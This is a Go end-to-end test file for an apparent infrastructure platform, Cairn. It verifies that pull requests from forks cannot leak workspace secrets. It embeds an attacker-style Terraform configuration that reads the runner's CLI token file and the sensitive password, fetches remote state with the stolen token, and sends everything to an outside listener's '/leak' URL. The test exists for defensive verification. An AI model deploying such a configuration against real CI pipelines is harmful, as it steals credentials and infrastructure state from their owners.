package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cairnhq/cairn/api/github/githubfake"
)

// exfilListener is somewhere outside Cairn a sandboxed configuration can
// reach (sandboxes have egress): it records every request it gets and
// answers as an empty state, so a configuration reading it goes on.
type exfilListener struct {
	url      string
	mu       sync.Mutex
	requests []string
}

func startExfilListener(t *testing.T) *exfilListener {
	t.Helper()
	l := &exfilListener{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		l.mu.Lock()
		l.requests = append(l.requests, r.Method+" "+r.URL.String()+" "+string(body))
		l.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"version":4,"terraform_version":"1.10.6","serial":1,"lineage":"e2e00000-0000-0000-0000-000000000000","outputs":{},"resources":[]}`)
	}))
	t.Cleanup(srv.Close)
	l.url = srv.URL
	return l
}

// received returns the requests whose path starts with prefix.
func (l *exfilListener) received(prefix string) []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for _, r := range l.requests {
		if _, rest, _ := strings.Cut(r, " "); strings.HasPrefix(rest, prefix) {
			out = append(out, r)
		}
	}
	return out
}

// trustedConfiguration is the tracked branch's: it keeps a connection
// string with the sensitive password in its state, and calls the listener
// once with nothing secret, which proves sandboxes reach it.
const trustedConfiguration = `variable "db_password" {
  type      = string
  sensitive = true
}
output "connection" {
  value     = "postgres://app:${var.db_password}@db.internal/app"
  sensitive = true
}
data "terraform_remote_state" "ping" {
  backend = "http"
  config  = { address = "%s/ping" }
}
resource "terraform_data" "db" {
  input = "db"
}
`

// forkConfiguration is an attacker's pull request: with built-ins alone it
// takes the sensitive variable, the run token from the runner's CLI
// configuration and, with that token, the workspace's state, and sends
// whatever it got to the listener. Given nothing, it sends nothing.
const forkConfiguration = `variable "db_password" {
  type    = string
  default = "absent"
}
locals {
  tofurc = try(file("${path.cwd}/../.cairn/tofurc"), "")
  token  = try(regex("rat_[a-z0-9]+", local.tofurc), "")
  loot   = join("|", compact([var.db_password == "absent" ? "" : var.db_password, local.token]))
}
data "terraform_remote_state" "stolen" {
  count   = local.token == "" ? 0 : 1
  backend = "remote"
  config = {
    hostname     = %q
    organization = %q
    token        = local.token
    workspaces   = { name = %q }
  }
}
locals {
  state = length(data.terraform_remote_state.stolen) == 0 ? "" : jsonencode(data.terraform_remote_state.stolen[0].outputs)
}
data "terraform_remote_state" "send" {
  count   = local.loot == "" && local.state == "" ? 0 : 1
  backend = "http"
  config  = { address = "%s/leak?loot=${urlencode(local.loot)}&state=${urlencode(local.state)}" }
}
resource "terraform_data" "proposal" {
  input = "from a fork"
}
`

// heldIngestion waits for the workspace's held ingestion of a head commit.
func (c *codeHostStack) heldIngestion(t *testing.T, headSHA string) (id, reason string) {
	t.Helper()
	for deadline := time.Now().Add(90 * time.Second); time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
		var held []struct {
			ID         string  `json:"id"`
			HeadSHA    string  `json:"head_sha"`
			Status     string  `json:"status"`
			HeldReason *string `json:"held_reason"`
		}
		c.apiJSON(t, http.MethodGet, "/v1/workspaces/"+c.workspaceID+"/held-source-ingestions?limit=100", nil, &held, c.m.cookie()...)
		for _, h := range held {
			if h.HeadSHA == headSHA && h.Status == "held" && h.HeldReason != nil {
				return h.ID, *h.HeldReason
			}
		}
	}
	t.Fatalf("no held ingestion of %s", headSHA)
	return "", ""
}

// forkRun waits for the speculative run of a pull request's head commit to
// end, and returns what its review says of its trust.
func (c *codeHostStack) forkRun(t *testing.T, pull int) untrustedView {
	t.Helper()
	var r runView
	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(250 * time.Millisecond) {
		var runs []struct {
			ID      string `json:"id"`
			Message string `json:"message"`
		}
		c.apiJSON(t, http.MethodGet, "/v1/runs?workspace_id="+c.workspaceID+"&limit=100", nil, &runs, c.m.cookie()...)
		for _, x := range runs {
			if strings.HasPrefix(x.Message, fmt.Sprintf("Pull request #%d ", pull)) {
				r.ID = x.ID
			}
		}
		if r.ID != "" || time.Now().After(deadline) {
			break
		}
	}
	if r.ID == "" {
		t.Fatalf("no run of pull request #%d", pull)
	}
	r = c.waitRun(t, c.m, r.ID, 2*time.Minute, status("planned_and_finished", "errored", "policy_soft_failed"))
	if r.Status != "planned_and_finished" {
		t.Fatalf("fork run of #%d: %+v\n%s", pull, r, c.logsOf(t, c.m, r.ID))
	}
	_, review := call(t, c.Client, http.MethodGet, c.APIURL+"/v1/runs/"+r.ID, nil, c.m.cookie()...)
	var view untrustedView
	unmarshalData(t, review, &view)
	return view
}

// TestForkPullRequestReachesNoSecret: a pull request from a fork whose
// configuration tries to send the workspace's sensitive variable, its run
// token and its state to a listener outside gets nothing to send, whether
// a person planned its exact head commit or the workspace plans forks;
// with neither, it is held (no run, a neutral check with a link). The
// tracked branch's own run reaches the listener, so the silence is the
// fork's, not the network's.
func TestForkPullRequestReachesNoSecret(t *testing.T) {
	t.Parallel()
	c := startCodeHost(t)
	checks := githubfake.AttachChecks(c.fake)
	listener := startExfilListener(t)
	const password = "fork-canary-Pa55w0rd+secret"
	c.setVariable(t, c.m, c.workspaceID, "db_password", password, true, false)
	var ws struct {
		CloudName string `json:"cloud_name"`
	}
	c.apiJSON(t, http.MethodGet, "/v1/workspaces/"+c.workspaceID, nil, &ws, c.m.cookie()...)

	// The tracked branch applies a state holding the password.
	sha := c.fake.Commit(codeHostRepo, "main", "Database", map[string]string{"infra/main.tf": fmt.Sprintf(trustedConfiguration, listener.url)})
	if st, body := c.deliver(t, "push", c.fake.Push(t, codeHostInstallation, codeHostRepo, githubfake.PushOptions{
		Branch: "main", Before: strings.Repeat("3", 40), After: sha, Paths: [][]string{{"infra/main.tf"}}})); st != http.StatusOK {
		t.Fatalf("push: %d %s", st, body)
	}
	tracked := c.newestRun(t, c.m, c.workspaceID, 2*time.Minute, status("awaiting_approval", "errored", "planned_and_finished"))
	if tracked.Status != "awaiting_approval" {
		t.Fatalf("tracked run: %+v\n%s", tracked, c.logsOf(t, c.m, tracked.ID))
	}
	if st := c.apiJSON(t, http.MethodPost, "/v1/runs/"+tracked.ID+"/actions/approve", tracked.binding(), nil, c.m.mutate(uniqueKey("approve"))...); st != http.StatusOK {
		t.Fatalf("approve: %d", st)
	}
	if applied := c.waitRun(t, c.m, tracked.ID, 2*time.Minute, status("applied", "errored", "recovery_required")); applied.Status != "applied" {
		t.Fatalf("apply: %+v\n%s", applied, c.logsOf(t, c.m, tracked.ID))
	}
	if len(listener.received("/ping")) == 0 {
		t.Fatal("the tracked run's sandbox never reached the listener")
	}

	fork := fmt.Sprintf(forkConfiguration, c.APIHost, c.m.slug, ws.CloudName, listener.url)
	openFork := func(number int, branch string) string {
		t.Helper()
		head := c.fake.Commit(codeHostRepo, branch, "Innocent change", map[string]string{"infra/main.tf": fork})
		c.fake.SetPullFiles(codeHostRepo, number, []string{"infra/main.tf"})
		if st, body := c.deliver(t, "pull_request", c.fake.PullRequest(t, codeHostInstallation, codeHostRepo, githubfake.PullOptions{
			Number: number, Base: "main", HeadRef: branch, HeadSHA: head, Fork: true})); st != http.StatusOK {
			t.Fatalf("pull request #%d: %d %s", number, st, body)
		}
		return head
	}

	// By default a fork's pull request is held: no run, a neutral check
	// linking to where a person can plan it.
	before := c.runCount(t)
	head := openFork(21, "fork-one")
	ingestion, reason := c.heldIngestion(t, head)
	if reason != "fork_pull_request" {
		t.Fatalf("held for %q", reason)
	}
	var neutral *githubfake.CheckRun
	for deadline := time.Now().Add(time.Minute); neutral == nil && time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
		for _, r := range checks.Runs(head) {
			if r.Status == "completed" && r.Conclusion == "neutral" {
				neutral = &r
			}
		}
	}
	if neutral == nil || !strings.Contains(neutral.DetailsURL, ingestion) {
		t.Fatalf("checks of the held pull request: %+v", checks.Runs(head))
	}
	if after := c.runCount(t); after != before {
		t.Fatalf("a held fork pull request created a run (%d → %d)", before, after)
	}

	// A person plans exactly that commit.
	if st := c.apiJSON(t, http.MethodPost, "/v1/source-ingestions/"+ingestion+"/actions/plan", map[string]string{"commit_sha": head}, nil,
		c.m.mutate(uniqueKey("plan-fork"))...); st != http.StatusOK && st != http.StatusCreated {
		t.Fatalf("plan this commit: %d", st)
	}
	planned := c.forkRun(t, 21)

	// The workspace plans forks itself from now on.
	if st := c.apiJSON(t, http.MethodPut, "/v1/workspaces/"+c.workspaceID+"/source", map[string]any{
		"repository_id": codeHostRepo, "tracked_branch": "main", "working_directory": "infra", "trigger_paths": []string{"infra/**"},
		"fork_pull_requests": "plan",
	}, nil, c.m.mutate(uniqueKey("source-forks"))...); st != http.StatusCreated {
		t.Fatalf("source settings planning forks: %d", st)
	}
	openFork(22, "fork-two")
	allowed := c.forkRun(t, 22)

	if leaks := listener.received("/leak"); len(leaks) > 0 {
		t.Fatalf("a fork's configuration sent the listener %d requests: %q", len(leaks), leaks)
	}
	for _, r := range listener.received("/") {
		if strings.Contains(r, password) || strings.Contains(r, "rat_") || strings.Contains(r, "Pa55w0rd") {
			t.Fatalf("the listener received a secret: %q", r)
		}
	}
	for name, view := range map[string]untrustedView{"planned by a person": planned, "planned by the setting": allowed} {
		if view.Untrusted == nil || view.Untrusted.Reason != "fork_pull_request" || view.Initiator != "code_host" {
			t.Fatalf("the fork run %s is not untrusted: %+v", name, view)
		}
	}
}
